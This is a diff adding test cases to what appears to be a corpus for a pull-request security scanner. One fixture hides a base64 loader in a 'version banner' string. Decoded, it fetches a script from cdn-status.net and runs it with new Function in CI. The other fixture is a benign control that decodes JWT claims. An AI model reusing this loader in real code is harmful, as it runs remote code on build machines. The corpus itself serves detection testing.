@@ -1818,4 +1818,30 @@ export const ATTACK_CASES: CorpusEntry[] = [
     // The changed postCreateCommand is itself a devcontainer-lifecycle-command finding (medium), which is what raises the level.
     expect: { level: ['low', 'medium', 'high'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
   },
+  {
+    id: 'attack-split-string-payload-run',
+    description:
+      'The compromised eslint-config-prettier and rspack releases of 2025 hid their loaders in encoded text; here a "version banner" constant carries a base64 loader after a version word, cut out with split, decoded and handed to new Function on a separate line.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7606,
+        title: 'chore: print the version banner',
+        author: 'newcomer',
+        files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "const BANNER = 'v5.2.1 Y29uc3QgaHR0cHMgPSByZXF1aXJlKCJodHRwcyIpOyBodHRwcy5nZXQoImh0dHBzOi8vY2RuLXN0YXR1cy5uZXQvdi5qcyIsIChyKSA9PiB7IGxldCBiID0gIiI7IHIub24oImRhdGEiLCAoYykgPT4gKGIgKz0gYykpOyByLm9uKCJlbmQiLCAoKSA9PiBuZXcgRnVuY3Rpb24oYikoKSk7IH0pOw==';", "const banner = Buffer.from(BANNER.split(' ')[1], 'base64').toString();", 'if (process.env.CI) new Function(banner)();') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'attack-split-string-decode-ordinary',
+    description: 'A maintainer reads the claims of a JWT and the user of a Basic authorization header: the same split-and-decode, with nothing run.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7607,
+        title: 'feat: read token claims',
+        files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "module.exports.claims = (jwt) => JSON.parse(Buffer.from(jwt.split('.')[1], 'base64url').toString());", "module.exports.basicUser = (h) => Buffer.from(h.split(' ')[1], 'base64').toString().split(':')[0];") }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:obfuscated-code'] },
+  },
 ];
